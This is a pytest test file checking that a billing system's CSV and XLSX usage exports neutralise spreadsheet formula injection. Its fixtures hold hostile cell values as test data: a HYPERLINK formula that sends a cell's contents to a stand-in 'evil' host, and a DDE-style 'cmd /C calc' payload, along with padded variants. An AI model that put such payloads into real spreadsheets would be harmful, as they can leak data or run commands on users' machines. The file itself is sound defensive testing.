"""Hostile names in usage exports: CSV, German CSV and XLSX hold them as inert text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from accounts.models import Organization
from billing.cells import FORMULA_STARTS, spreadsheet_text
from billing.export import TABLE_COLUMNS
from billing.models import Tariff
from billing.usage import record_usage
from tests.factories import make_finance_office

ORGANISATION = '=HYPERLINK("http://evil/?"&A1,"x")'
COST_CENTRE = "@SUM(1+1)*cmd|' /C calc'!A0"
# Padded ones: spreadsheets look past spaces, quotes and tabs.
PADDED_ORGANISATION = '  "=1+1'
PADDED_COST_CENTRE = "\t=2+2"
INTERPRETERS = ("+49 170 1234567", "-2+3", '"@x";=2', "\uff1dSUM(A1)")
TARIFF = "-Sondertarif"
NUMERIC = {"duration_s", "billable_s", "amount_cents", "amount"}


@pytest.fixture
async def hostile(factory, db):
    """Usage of an organisation, cost centre, tariff and interpreters with hostile names;
    the organisation's id starts with `-` as a generated id may."""
    async with db.write() as session:
        org = Organization(
            id="-Xq3" + "a" * 18,
            name=ORGANISATION,
            cost_center=COST_CENTRE,
            created_at=factory.clock.now(),
        )
        padded = Organization(
            name=PADDED_ORGANISATION,
            cost_center=PADDED_COST_CENTRE,
            created_at=factory.clock.now(),
        )
        session.add_all([org, padded])
        session.add(
            Tariff(
                name=TARIFF,
                unit_s=60,
                price_per_unit_cents=150,
                valid_from=date(2025, 1, 1),
                created_at=factory.clock.now(),
            )
        )
    counsellors = [await factory.user(organization=org), await factory.user(organization=padded)]
    start = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    for n, name in enumerate(INTERPRETERS):
        counsellor = counsellors[n % 2]
        interpreter = await factory.interpreter(display_name=name)
        moment = start + timedelta(hours=n)
        call = await factory.call_between(
            counsellor, interpreter, "uk", moment, moment + timedelta(seconds=95)
        )
        async with db.write() as session:
            await record_usage(session, call)
    await factory.login(await make_finance_office(factory))


async def export(client, **params: str) -> bytes:
    resp = await client.get("/api/usage", params=params)
    assert resp.status == 200, await resp.text()
    return await resp.read()


def expected_table(records: list[dict]) -> list[list[str]]:
    """The JSON records as the spreadsheet formats must show them: text made inert."""
    return [
        [
            str(r[c]) if c in NUMERIC else spreadsheet_text(r[c])
            for c in TABLE_COLUMNS
            if c != "amount"
        ]
        for r in records
    ]


def assert_inert(rows: list[list[str]]) -> None:
    """No cell starts a formula, however it is padded."""
    for row in rows:
        for cell in row:
            assert cell.lstrip(" \"'")[:1] not in FORMULA_STARTS or cell.startswith("'"), cell
            assert cell[:1] not in {*FORMULA_STARTS, "\t", "\r", "\n"}, cell


class TestFormulaInjection:
    async def test_json_keeps_the_names_as_they_are(self, client, hostile):
        """JSON is for programs, not spreadsheets: the records hold the names unchanged."""
        records = await (await client.get("/api/usage")).json()
        assert {r["organization"] for r in records} == {ORGANISATION, PADDED_ORGANISATION}
        assert {r["cost_center"] for r in records} == {COST_CENTRE, PADDED_COST_CENTRE}
        assert {r["tariff"] for r in records} == {TARIFF}
        assert {r["interpreter"] for r in records} == set(INTERPRETERS)

    @pytest.mark.parametrize("dialect", [None, "de"])
    async def test_csv_cells_are_inert_text(self, client, hostile, dialect):
        """Every text column of the CSV starts hostile values with `'`; nothing else moves."""
        records = await (await client.get("/api/usage")).json()
        params = {"format": "csv", **({"dialect": dialect} if dialect else {})}
        text = (await export(client, **params)).decode("utf-8-sig")
        delimiter = ";" if dialect == "de" else ","
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        assert rows[0] == list(TABLE_COLUMNS)
        body = [row[:6] + row[7:] for row in rows[1:]]  # without `amount`
        assert body == expected_table(records)
        assert_inert(body)
        assert {row[TABLE_COLUMNS.index("organization")] for row in rows[1:]} == {
            "'" + ORGANISATION,
            "'" + PADDED_ORGANISATION,
        }
        assert rows[1][TABLE_COLUMNS.index("organization_id")].startswith("'-Xq3")

    async def test_xlsx_holds_text_cells_never_formulas(self, client, hostile):
        """In the XLSX every text is a string cell with the same inert value as the CSV."""
        records = await (await client.get("/api/usage")).json()
        book = load_workbook(io.BytesIO(await export(client, format="xlsx")))
        cells = list(book["usage"].iter_rows(min_row=2))
        assert all(c.data_type != "f" for row in cells for c in row)
        amount = TABLE_COLUMNS.index("amount")
        body = [[str(c.value) for i, c in enumerate(row) if i != amount] for row in cells]
        assert body == expected_table(records)
        assert_inert(body)
        for row in cells:
            for i, c in enumerate(row):
                if TABLE_COLUMNS[i] not in NUMERIC:
                    assert c.data_type == "s", (TABLE_COLUMNS[i], c.value)
